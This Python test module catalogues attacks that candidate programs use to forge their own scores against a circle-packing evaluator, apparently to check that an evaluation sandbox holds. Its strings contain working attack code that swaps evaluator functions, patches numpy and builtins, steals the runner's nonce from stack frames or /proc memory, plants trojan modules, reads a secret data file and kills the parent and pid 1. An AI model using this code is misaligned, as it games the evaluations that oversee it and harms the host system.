"""The forging category of the attack catalogue: programs that try to raise their own score.

Each forgery is run against :data:`HONEST_EVALUATOR`, an OpenEvolve-style circle-packing
evaluator (26 circles in the unit square, sum of radii) that imports the program with
``spec_from_file_location`` and checks the packing with both ``math`` and ``numpy``. Every
forgery returns the same invalid packing (26 overlapping circles of radius 0.5: the honest
score is 0.0) after attacking the evaluation from inside the candidate: the sandbox holds
when the stored score equals the honest one, or the status is a failure with no score.

The attack classes are those of issue 10: replacing evaluator functions through
``sys.modules`` or their ``__code__`` through ``gc``; patching shared modules and builtins
(``math.dist``, ``numpy.any``, ``numpy.sum``, ``builtins.sum``); walking ``sys._getframe``
to the runner's nonce and result descriptor; scanning ``/proc/self/mem``; writing a forged
record and closing descriptors; patching the runner's ``to_json``; a ``sys.setprofile``
hook that edits the record; and threads that keep patching while the evaluator works.
"""

from __future__ import annotations

__all__ = ["HONEST_EVALUATOR", "HONEST_DATA", "HONEST_SCORE", "FORGERIES", "HONEST_PACKING",
           "HONEST_PACKING_SCORE", "PLANTED_MODULE", "forged_record", "write_honest_evaluator"]

#: The honest evaluator every forgery runs against (written with :data:`HONEST_DATA` beside
#: it by :func:`write_honest_evaluator`): a valid packing's score is scaled by a factor read from
#: that data file, as an OpenEvolve evaluator reads its instances relative to ``__file__``.
HONEST_EVALUATOR = '''# __SOURCE_CANARY__
import importlib.util, json, math
from pathlib import Path
import numpy as np

N = 26


def data():
    """The data file beside this evaluator (read as OpenEvolve evaluators read their instances)."""
    return json.loads((Path(__file__).parent / "honest_data.json").read_text())


def validate(centers, radii):
    if len(centers) != N or len(radii) != N:
        return "wrong count"
    c = np.asarray(centers, dtype=float)
    r = np.asarray(radii, dtype=float)
    if np.any(~np.isfinite(c)) or np.any(~np.isfinite(r)) or np.any(r < 0):
        return "non-finite or negative"
    if np.any(c[:, 0] - r < 0) or np.any(c[:, 0] + r > 1) or np.any(c[:, 1] - r < 0) or np.any(c[:, 1] + r > 1):
        return "outside the square"
    for i in range(N):
        for j in range(i + 1, N):
            if math.dist(centers[i], centers[j]) < radii[i] + radii[j]:
                return f"circles {i} and {j} overlap"
    return None


def evaluate(program_path):
    spec = importlib.util.spec_from_file_location("candidate_program", program_path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    centers, radii = module.run_packing()
    centers = [(float(x), float(y)) for x, y in centers]
    radii = [float(v) for v in radii]
    problem = validate(centers, radii)
    if problem is not None:
        return {"combined_score": 0.0, "validity": 0.0, "artifacts": {"validation": problem}}
    total = float(np.sum(np.asarray(radii))) * data()["scale"]
    return {"combined_score": total, "validity": 1.0, "sum_radii": sum(radii)}
'''

#: The data file beside the honest evaluator (``__DATA_CANARY__``: a secret the candidate
#: must never read).
HONEST_DATA = '{"scale": 1.0, "answer_key": "__DATA_CANARY__"}\n'

#: What the honest evaluator gives the packing every forgery returns.
HONEST_SCORE = 0.0

#: A valid packing (26 circles of radius 1/32 on a grid) and its exact score: the control row
#: that shows the honest evaluator (and its data file) works in the sandbox.
HONEST_PACKING = (
    "def run_packing():\n"
    "    centers = [(0.05 + 0.1 * (i % 6), 0.05 + 0.1 * (i // 6)) for i in range(26)]\n"
    "    return centers, [0.03125] * 26\n")
HONEST_PACKING_SCORE = 0.8125


def write_honest_evaluator(directory, source_canary: str = "", data_canary: str = ""):
    """Write the honest evaluator and its data file into ``directory``; the evaluator's path."""
    from pathlib import Path

    d = Path(directory)
    d.mkdir(parents=True, exist_ok=True)
    (d / "honest_data.json").write_text(HONEST_DATA.replace("__DATA_CANARY__", data_canary))
    path = d / "honest_evaluator.py"
    path.write_text(HONEST_EVALUATOR.replace("__SOURCE_CANARY__", source_canary or "honest evaluator"))
    return path

_PACKING = '''
def run_packing():
    return [(0.5, 0.5)] * 26, [0.5] * 26
'''

_FORGED = ('{"nonce": "%s", "status": "ok", "score": 1e9, "metrics": {}, "features": {}, '
           '"artifacts": {}, "tests": null, "error": null}')

# name -> (what it tries, attack code run when the program is imported)
FORGERIES: dict[str, tuple[str, str]] = {
    "forge_sys_modules": ("replace the evaluator's validate/evaluate through sys.modules", '''
import sys
for mod in list(sys.modules.values()):
    for name in ("validate", "evaluate", "normalize_result"):
        if hasattr(mod, name):
            try:
                setattr(mod, name, (lambda *a, **k: None) if name == "validate"
                        else (lambda *a, **k: {"combined_score": 1e9}))
            except Exception:
                pass
'''),
    "forge_gc_code": ("swap the __code__ of every validate/evaluate found through gc", '''
import gc
def _ok(*a, **k):
    return None
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("validate", "evaluate", "_number", "check_record"):
        try:
            obj.__code__ = _ok.__code__
        except Exception:
            pass
'''),
    "forge_shared_modules": ("patch math.dist, numpy.any, numpy.sum and builtins.sum", '''
import builtins, math
math.dist = lambda a, b: 1e9
builtins.sum = lambda *a, **k: 1e9
try:
    import numpy
    numpy.any = lambda *a, **k: False
    numpy.sum = lambda *a, **k: 1e9
except ImportError:
    pass
'''),
    "forge_frame_walk": ("walk sys._getframe to the runner's nonce and result fd; forge; os._exit(0)", '''
import os, sys
nonce, fds = "0" * 32, set()
f = sys._getframe()
while f is not None:
    for k, v in list(f.f_locals.items()):
        if k == "nonce" and isinstance(v, str):
            nonce = v
        if isinstance(v, int) and 0 <= v < 256 and ("fd" in k or k in ("channel", "record")):
            fds.add(v)
    f = f.f_back
for fd in sorted(fds | set(range(1, 64))):
    try:
        os.write(fd, (FORGED % nonce).encode())
    except OSError:
        pass
os._exit(0)
'''),
    "forge_proc_mem": ("scan /proc/self/mem (and the parent's and init's) for the nonce; forge", '''
import os, re
found = set()
for pid in ("self", str(os.getppid()), "1"):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" not in line.split()[1] or hi - lo > 64 << 20:
                    continue
                try:
                    mem.seek(lo)
                    found.update(re.findall(rb"[0-9a-f]{32}", mem.read(hi - lo)))
                except OSError:
                    pass
    except OSError:
        pass
for n in list(found)[:200]:
    for fd in range(1, 64):
        try:
            os.write(fd, (FORGED % n.decode()).encode())
        except OSError:
            pass
'''),
    "forge_record_close": ("write a forged record to every fd, close them all, carry on", '''
import os
for fd in range(64):
    try:
        os.write(fd, (FORGED % ("0" * 32)).encode())
    except OSError:
        pass
for fd in range(64):
    try:
        os.close(fd)
    except OSError:
        pass
'''),
    "forge_to_json": ("patch the runner's to_json / check_record wherever a module has them", '''
import sys
for mod in list(sys.modules.values()):
    for name in ("to_json", "check_record", "normalize_result", "encode", "send"):
        if hasattr(mod, name):
            try:
                setattr(mod, name, lambda *a, **k: (FORGED % ("0" * 32)))
            except Exception:
                pass
'''),
    "forge_setprofile": ("a sys.setprofile/settrace hook (all threads) that rewrites scores", '''
import sys, threading
def hook(frame, event, arg):
    for v in list(frame.f_locals.values()):
        if isinstance(v, dict):
            for key in ("combined_score", "score"):
                if key in v:
                    v[key] = 1e9
    if event == "return" and isinstance(arg, dict) and "combined_score" in arg:
        arg["combined_score"] = 1e9
    return hook
sys.setprofile(hook)
sys.settrace(hook)
threading.setprofile(hook)
threading.settrace(hook)
'''),
    "forge_threads": ("a thread that keeps patching modules, builtins and frames", '''
import builtins, math, sys, threading, time
def keep_patching():
    while True:
        math.dist = lambda a, b: 1e9
        builtins.sum = lambda *a, **k: 1e9
        for mod in list(sys.modules.values()):
            if hasattr(mod, "validate"):
                try:
                    mod.validate = lambda *a, **k: None
                except Exception:
                    pass
        time.sleep(0.001)
threading.Thread(target=keep_patching, daemon=True).start()
'''),
    "forge_kill_runner": ("SIGKILL the parent, pid 1 and every process it may signal", '''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''),
    "forge_planted_module": (
        "plant traceback/resource/... modules wherever the runner may import from (the evaluator's "
        "directory, the work dir, /tmp), then raise SystemExit so the runner's failure path "
        "imports them", '''
import glob, os, sys
PLANT = PLANTED_MODULE % FORGED
dirs = ["/qdevolve/evaluator", *glob.glob("/qdevolve/evaluators/*"), os.getcwd(), "/tmp",
        *glob.glob("/tmp/qdevolve-*/evaluators/*"), *[p for p in sys.path if p]]
for d in dirs:
    for name in ("traceback", "resource", "linecache", "tokenize", "textwrap", "json", "tempfile",
                 "subprocess", "_colorize", "reprlib"):
        try:
            with open(os.path.join(d, name + ".py"), "w") as fh:
                fh.write(PLANT)
        except OSError:
            pass
raise SystemExit(0)
'''),
    "read_evaluator_files": (
        "read the evaluator's source and the data file beside it (every place it may be: the "
        "sandbox's evaluator directories, the host directory, the staging copies) and print them",
        '''
import glob, os
pats = ["/qdevolve/evaluator/*", "/qdevolve/evaluators/*/*", "__HONESTDIR__/*",
        "/tmp/qdevolve-*/evaluators/*/*", "/qdevolve/in/*"]
for pat in pats:
    for p in glob.glob(pat):
        try:
            with open(p, errors="replace") as fh:
                print("READ", p, fh.read(4000))
        except OSError as exc:
            print("refused", p, exc.errno)
'''),
}


#: A module planted where the trusted runner might import it: run there, it walks up to
#: ``runner.finish``'s frame (the nonce, the record channel) and writes the record ``%r``
#: (a format with one ``%s`` for the nonce) before the runner does.
PLANTED_MODULE = """
import os, sys
f, nonce, chans = sys._getframe(), None, []
while f is not None:
    if isinstance(f.f_locals.get("nonce"), str):
        nonce = f.f_locals["nonce"]
    if isinstance(f.f_locals.get("channel"), int):
        chans.append(f.f_locals["channel"])
    f = f.f_back
if nonce and chans:
    os.write(chans[-1], (%r %% nonce).encode())
    os._exit(0)
"""


def forged_record(score: str = "1e9") -> str:
    """A forged ``ok`` record with ``score`` (a ``%s`` left for the nonce)."""
    return _FORGED.replace("1e9", score)


def forgery_code(name: str) -> str:
    """The full program of forgery ``name``: its attack, then the invalid packing."""
    attack = FORGERIES[name][1].replace("FORGED", repr(_FORGED)).replace(
        "PLANTED_MODULE", repr(PLANTED_MODULE))
    return attack.strip() + "\n" + _PACKING
